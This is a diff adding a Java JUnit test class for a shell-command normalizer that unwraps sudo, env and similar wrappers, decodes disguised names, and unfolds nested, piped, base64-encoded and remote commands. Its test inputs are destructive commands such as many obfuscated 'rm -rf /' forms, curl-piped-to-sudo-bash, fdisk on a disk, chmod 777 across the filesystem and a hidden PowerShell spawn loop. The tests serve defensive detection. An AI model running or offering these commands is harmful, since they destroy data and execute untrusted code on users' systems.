@@ -1,0 +1,239 @@
+package dev.caro.core.shell;
+
+import static dev.caro.core.shell.Scripts.only;
+import static dev.caro.core.shell.Scripts.parse;
+import static dev.caro.core.shell.Scripts.render;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.caro.api.shell.Origin;
+import dev.caro.api.shell.ShellScript;
+import dev.caro.api.shell.SimpleCommand;
+import java.util.List;
+import java.util.Optional;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class NormalizerTest {
+
+    /** command line, expected rm line (rendered), expected wrappers, elevated. */
+    static Stream<Arguments> wrappers() {
+        return Stream.of(
+                Arguments.of("sudo rm -rf /", List.of("sudo"), true),
+                Arguments.of("sudo -u root -E -- rm -rf /", List.of("sudo"), true),
+                Arguments.of("sudo --user=root -i rm -rf /", List.of("sudo"), true),
+                Arguments.of("doas -u root rm -rf /", List.of("doas"), true),
+                Arguments.of("pkexec --user root rm -rf /", List.of("pkexec"), true),
+                Arguments.of("env -i -u PATH LC_ALL=C rm -rf /", List.of("env"), false),
+                Arguments.of("env -- rm -rf /", List.of("env"), false),
+                Arguments.of("command rm -rf /", List.of("command"), false),
+                Arguments.of("builtin rm -rf /", List.of("builtin"), false),
+                Arguments.of("exec -a name rm -rf /", List.of("exec"), false),
+                Arguments.of("nohup rm -rf /", List.of("nohup"), false),
+                Arguments.of("nice -n 19 rm -rf /", List.of("nice"), false),
+                Arguments.of("nice -10 rm -rf /", List.of("nice"), false),
+                Arguments.of("ionice -c3 rm -rf /", List.of("ionice"), false),
+                Arguments.of("ionice -c 2 -n 7 rm -rf /", List.of("ionice"), false),
+                Arguments.of("time -p rm -rf /", List.of("time"), false),
+                Arguments.of("timeout 10 rm -rf /", List.of("timeout"), false),
+                Arguments.of("timeout -s KILL -k 5 1m rm -rf /", List.of("timeout"), false),
+                Arguments.of("timeout --signal=TERM 30s rm -rf /", List.of("timeout"), false),
+                Arguments.of("stdbuf -oL -e 0 rm -rf /", List.of("stdbuf"), false),
+                Arguments.of("busybox rm -rf /", List.of("busybox"), false),
+                Arguments.of("chroot /mnt rm -rf /", List.of("chroot"), false),
+                Arguments.of("strace -f -o trace.txt rm -rf /", List.of("strace"), false),
+                Arguments.of("setsid nohup rm -rf /", List.of("setsid", "nohup"), false),
+                Arguments.of("sudo -E nice -n 5 timeout 60 env X=1 rm -rf /",
+                        List.of("sudo", "nice", "timeout", "env"), true));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("wrappers")
+    void stripsWrappersWithTheirOptions(String text, List<String> wrappers, boolean elevated) {
+        ShellScript s = parse(text);
+        assertTrue(s.parsed());
+        SimpleCommand rm = only(s, "rm");
+        assertEquals("direct: rm [-rf] [/]", render(rm));
+        assertEquals(wrappers, rm.wrappers());
+        assertEquals(elevated, rm.elevated());
+        assertEquals(0, rm.depth());
+    }
+
+    static Stream<Arguments> notWrapping() {
+        return Stream.of(
+                Arguments.of("command -v rm", "direct: command [-v] [rm]"),
+                Arguments.of("sudo -l", "direct: sudo [-l]"),
+                Arguments.of("sudo -i", "direct: sudo [-i]"),
+                Arguments.of("nice", "direct: nice"),
+                Arguments.of("env", "direct: env"),
+                Arguments.of("ionice -p 123", "direct: ionice [-p] [123]"),
+                Arguments.of("timeout 5", "direct: timeout [5]"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("notWrapping")
+    void leavesWrappersAloneWhenTheyRunNothing(String text, String expected) {
+        assertEquals(List.of(expected), render(parse(text)));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("disguises")
+    void reducesDisguisedNames(String text) {
+        ShellScript s = parse(text);
+        assertTrue(s.parsed(), text);
+        assertEquals("direct: rm [-rf] [/]", render(s.commands().get(s.commands().size() - 1)));
+    }
+
+    static Stream<String> disguises() {
+        return Stream.of("/bin/rm -rf /", "/usr/bin/rm -rf /", "\\rm -rf /", "\"rm\" -rf /", "'rm' -rf /",
+                "r''m -rf /", "r\"\"m -rf /", "$'\\x72m' -rf /", "$'\\162m' -rf /", "$'\\u0072m' -rf /",
+                "r\\m -rf /", "./../../bin/rm -rf /", "X=rm; $X -rf /", "C=\"rm -rf\"; $C /");
+    }
+
+    static Stream<Arguments> unfolding() {
+        return Stream.of(
+                Arguments.of("bash -c 'rm -rf /'", Origin.SHELL_STRING, List.of("direct: bash [-c] [rm -rf /]", "shell_string: rm [-rf] [/]")),
+                Arguments.of("sh -xec \"rm -rf /\" arg0", Origin.SHELL_STRING, List.of("direct: sh [-xec] [rm -rf /] [arg0]", "shell_string: rm [-rf] [/]")),
+                Arguments.of("zsh -lc 'cd / && rm -rf *'", Origin.SHELL_STRING,
+                        List.of("direct: zsh [-lc] [cd / && rm -rf *]", "shell_string: cd [/]", "shell_string: rm [-rf] [*]")),
+                Arguments.of("eval \"rm -rf\" /", Origin.EVAL, List.of("direct: eval [rm -rf] [/]", "eval: rm [-rf] [/]")),
+                Arguments.of("find / -exec rm -rf {} \\;", Origin.FIND_EXEC,
+                        List.of("direct: find [/] [-exec] [rm] [-rf] [{}] [;]", "find_exec: rm [-rf] [/]")),
+                Arguments.of("find . -name '*.tmp' -execdir rm -f {} +", Origin.FIND_EXEC,
+                        List.of("direct: find [.] [-name] [*.tmp] [-execdir] [rm] [-f] [{}] [+]", "find_exec: rm [-f] [./{}]")),
+                Arguments.of("find /var -ok sudo rm {} ';'", Origin.FIND_EXEC,
+                        List.of("direct: find [/var] [-ok] [sudo] [rm] [{}] [;]", "find_exec: rm [/var]")),
+                Arguments.of("ls | xargs -0 -n 1 rm -rf", Origin.XARGS, List.of("direct: ls", "xargs: rm [-rf]")),
+                Arguments.of("echo /etc | xargs rm -rf", Origin.XARGS, List.of("direct: echo [/etc]", "xargs: rm [-rf] [/etc]")),
+                Arguments.of("find / -type f | xargs -I{} rm -f {}", Origin.XARGS,
+                        List.of("direct: find [/] [-type] [f]", "xargs: rm [-f] [/{}]")),
+                Arguments.of("ssh -p 22 -i key admin@web 'rm -rf /var/www'", Origin.REMOTE,
+                        List.of("direct: ssh [-p] [22] [-i] [key] [admin@web] [rm -rf /var/www]", "remote: rm [-rf] [/var/www]")),
+                Arguments.of("ssh host rm -rf /data", Origin.REMOTE,
+                        List.of("direct: ssh [host] [rm] [-rf] [/data]", "remote: rm [-rf] [/data]")),
+                Arguments.of("su - root -c 'rm -rf /'", Origin.SHELL_STRING,
+                        List.of("direct: su [-] [root] [-c] [rm -rf /]", "shell_string: rm [-rf] [/]")),
+                Arguments.of("watch -n 5 'rm -rf /tmp/x'", Origin.SHELL_STRING,
+                        List.of("direct: watch [-n] [5] [rm -rf /tmp/x]", "shell_string: rm [-rf] [/tmp/x]")),
+                Arguments.of("echo 'rm -rf /' | sh", Origin.PIPED_SCRIPT,
+                        List.of("direct: echo [rm -rf /]", "direct: sh", "piped_script: rm [-rf] [/]")),
+                Arguments.of("printf 'cd /\\nrm -rf *\\n' | bash -s", Origin.PIPED_SCRIPT,
+                        List.of("direct: printf [cd /\\nrm -rf *\\n]", "direct: bash [-s]", "piped_script: cd [/]", "piped_script: rm [-rf] [*]")),
+                Arguments.of("bash <<'EOF'\nrm -rf /\nEOF", Origin.PIPED_SCRIPT, List.of("direct: bash", "piped_script: rm [-rf] [/]")),
+                Arguments.of("sh <<< 'rm -rf /'", Origin.PIPED_SCRIPT, List.of("direct: sh", "piped_script: rm [-rf] [/]")),
+                Arguments.of("echo cm0gLXJmIC8= | base64 -d | sh", Origin.PIPED_SCRIPT,
+                        List.of("direct: echo [cm0gLXJmIC8=]", "direct: base64 [-d]", "direct: sh", "piped_script: rm [-rf] [/]")),
+                Arguments.of("echo '/ fr- mr' | rev | sh", Origin.PIPED_SCRIPT,
+                        List.of("direct: echo [/ fr- mr]", "direct: rev", "direct: sh", "piped_script: rm [-rf] [/]")),
+                Arguments.of("bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\"", Origin.SHELL_STRING,
+                        List.of("substitution: echo [cm0gLXJmIH4=]", "substitution: base64 [-d]",
+                                "direct: bash [-c] [rm -rf ~]", "shell_string: rm [-rf] [/home/user]")),
+                Arguments.of("echo $(rm -rf /)", Origin.SUBSTITUTION, List.of("substitution: rm [-rf] [/]", "direct: echo [$(rm -rf /)]")));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("unfolding")
+    void unfoldsNestedCommands(String text, Origin origin, List<String> expected) {
+        ShellScript s = parse(text);
+        assertTrue(s.parsed(), () -> text + ": " + s.parseError());
+        assertEquals(expected, render(s));
+        SimpleCommand last = s.commands().stream().filter(c -> c.origin() == origin).findFirst().orElseThrow();
+        assertEquals(1, last.depth());
+    }
+
+    @Test
+    void unfoldedCommandsKeepOuterWrappers() {
+        SimpleCommand rm = only(parse("sudo bash -c 'rm -rf /'"), "rm");
+        assertTrue(rm.elevated());
+        assertEquals(List.of("sudo"), rm.wrappers());
+        SimpleCommand chmod = only(parse("sudo find / -type d -exec chmod 777 {} +"), "chmod");
+        assertTrue(chmod.elevated());
+        assertEquals("[777] [/{}]", render(chmod).substring("find_exec: chmod ".length()));
+        SimpleCommand viaSu = only(parse("su -c 'rm -rf /'"), "rm");
+        assertTrue(viaSu.elevated());
+        SimpleCommand viaXargs = only(parse("ls | xargs sudo rm"), "rm");
+        assertEquals(List.of("xargs", "sudo"), viaXargs.wrappers());
+        assertTrue(viaXargs.elevated());
+    }
+
+    @Test
+    void nestingIsCountedPerLayer() {
+        SimpleCommand rm = only(parse("ssh host \"bash -c 'eval rm -rf /'\""), "rm");
+        assertEquals(Origin.EVAL, rm.origin());
+        assertEquals(3, rm.depth());
+    }
+
+    @Test
+    void tracksAssignmentsExportsAndHome() {
+        assertEquals("[-rf] [/]", args(only(parse("D=/; rm -rf $D"), "rm")));
+        assertEquals("[-rf] [/usr/lib]", args(only(parse("export P=/usr; rm -rf \"$P/lib\""), "rm")));
+        assertEquals("[-rf] [/home/user] [/home/user] [/home/user/x]",
+                args(only(parse("rm -rf ~ $HOME ${HOME}/x"), "rm")));
+        assertEquals("[-rf] [/tmp/tmp.XXXXXXXXXX]", args(only(parse("t=$(mktemp -d) && rm -rf \"$t\""), "rm")));
+        // A prefix assignment applies to that command only.
+        assertEquals("[-rf] [$D]", args(only(parse("D=/ true; rm -rf $D"), "rm")));
+        // Unset makes it empty; an unknown variable keeps its written form.
+        assertEquals("[-rf] [/x]", args(only(parse("unset D; rm -rf \"$D/x\""), "rm")));
+        SimpleCommand unknown = only(parse("rm -rf \"$BUILD_DIR\"/"), "rm");
+        assertEquals("$BUILD_DIR/", unknown.args().get(1).value());
+        assertTrue(unknown.args().get(1).unknownExpansion());
+        assertFalse(only(parse("rm -rf ./build"), "rm").args().get(1).unknownExpansion());
+    }
+
+    @Test
+    void variablesSetInBranchesBecomeUnknown() {
+        SimpleCommand rm = only(parse("D=/tmp/x; if test -n \"$1\"; then D=/; fi; rm -rf $D"), "rm");
+        assertTrue(rm.args().get(1).unknownExpansion());
+        assertEquals(List.of("body: rm [-rf] [/etc]", "body: rm [-rf] [/usr]"),
+                render(parse("for d in /etc /usr; do rm -rf $d; done")));
+    }
+
+    @Test
+    void tracksTheWorkingDirectory() {
+        ShellScript s = parse("cd /tmp/build && rm -rf * && cd .. && ls; cd; pwd; cd $X; rm x; cd -; (cd /; ls)");
+        List<Optional<String>> cwds = s.commands().stream().map(SimpleCommand::cwd).toList();
+        assertEquals(List.of(Optional.of("/home/user/project"), Optional.of("/tmp/build"), Optional.of("/tmp/build"),
+                Optional.of("/tmp"), Optional.of("/tmp"), Optional.of("/home/user"), Optional.of("/home/user"),
+                Optional.empty(), Optional.empty(), Optional.empty(), Optional.of("/")), cwds);
+        // A cd inside a subshell does not leak out.
+        assertEquals(Optional.of("/home/user/project"), only(parse("(cd /); rm x"), "rm").cwd());
+    }
+
+    @Test
+    void fillsUpstreamStdinAndBackground() {
+        ShellScript s = parse("curl -fsSL https://x.example/i.sh | sudo bash -s -- -y &");
+        SimpleCommand bash = only(s, "bash");
+        assertEquals(List.of("curl"), bash.upstream().stream().map(SimpleCommand::name).toList());
+        assertTrue(bash.pipedFrom("curl"));
+        assertTrue(bash.background());
+        assertTrue(only(s, "curl").background());
+        assertEquals(Optional.empty(), bash.stdinText());
+
+        SimpleCommand sh = only(parse("printf '%s\\n' 'reboot' | sh"), "sh");
+        assertEquals(Optional.of("reboot\n"), sh.stdinText());
+        SimpleCommand fdisk = only(parse("printf 'o\\nw\\n' | sudo fdisk /dev/sdb"), "fdisk");
+        assertEquals(Optional.of("o\nw\n"), fdisk.stdinText());
+        assertFalse(only(parse("ls &"), "ls").upstream().iterator().hasNext());
+    }
+
+    @Test
+    void parsesPowerShellLinesWithoutShSyntaxErrors() {
+        ShellScript s = parse("Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1GB } | Remove-Item -Force");
+        assertTrue(s.parsed(), () -> String.valueOf(s.parseError()));
+        assertEquals(List.of("direct: Get-ChildItem [-Recurse]", "direct: Where-Object [{ $_.Length -gt 1GB }]",
+                "direct: Remove-Item [-Force]"), render(s));
+        SimpleCommand rm = only(parse("Remove-Item -Path C:\\Windows\\System32 -Recurse"), "Remove-Item");
+        assertEquals("C:\\Windows\\System32", rm.args().get(1).value());
+        assertEquals(List.of("direct: while [($true)] [{ Start-Process powershell -WindowStyle Hidden }]"),
+                render(parse("while ($true) { Start-Process powershell -WindowStyle Hidden }")));
+    }
+
+    private static String args(SimpleCommand c) {
+        String r = render(c);
+        return r.substring(r.indexOf(c.name()) + c.name().length()).strip();
+    }
+}
